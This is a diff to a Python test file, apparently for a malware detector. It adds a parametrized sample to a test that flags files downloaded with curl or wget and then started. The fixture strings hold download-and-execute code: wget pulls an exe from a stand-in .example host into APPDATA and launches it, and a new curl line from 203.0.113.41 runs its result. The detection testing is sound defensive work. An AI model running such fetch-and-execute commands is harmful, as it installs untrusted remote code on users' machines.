@@ -747,8 +747,11 @@ def test_a_name_bound_to_another_files_text_stays_clean(source: str) -> None:
         "exe = os.path.join(os.getenv('APPDATA'), 'svc.exe')\n"
         "cmd = ['wget.exe', '-q', '--output-document', exe, 'https://x.blind19.example/a']\n"
         "subprocess.call(cmd)\nos.startfile(exe)\n",
+        "import os, subprocess, tempfile, uuid\n"
+        "dst = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n"
+        "os.system(f'curl -sL http://203.0.113.41/x -o {dst}')\nsubprocess.Popen([dst])\n",
     ],
-    ids=["curl-uuid-path", "wget-appdata-list-name"],
+    ids=["curl-uuid-path", "wget-appdata-list-name", "curl-shell-fstring"],
 )
 def test_a_download_saved_by_curl_or_wget_and_started_is_a_downloaded_stage(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
